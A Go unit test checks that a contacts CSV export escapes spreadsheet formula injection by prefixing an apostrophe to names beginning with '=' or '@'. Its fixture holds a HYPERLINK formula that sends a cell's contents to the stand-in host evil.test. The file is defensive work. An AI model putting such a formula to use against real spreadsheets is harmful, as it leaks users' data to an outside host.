package store_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"switchboard/store"
)

// TestContactsExportNeutralisesFormulas: a contact whose name came in through the API as a
// spreadsheet formula is exported as text a spreadsheet will not run; its phone stays a phone.
func TestContactsExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	evil := `=HYPERLINK("http://evil.test/?"&B2,"x")`
	if _, err := f.s.CreateContact(f.ws, store.ContactInput{Phone: "+14155550101", FirstName: ptr(evil), LastName: ptr("@SUM(A1)")}); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := f.s.WriteContactsCSV(&b, f.ws, store.ContactFilter{}, nil); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export %q: %v", b.String(), err)
	}
	if rows[1][1] != "'"+evil || rows[1][2] != "'@SUM(A1)" || rows[1][3] != "+14155550101" {
		t.Fatalf("exported first name %q, last name %q, phone %q; want the formulas behind an apostrophe and the phone as it is",
			rows[1][1], rows[1][2], rows[1][3])
	}
}
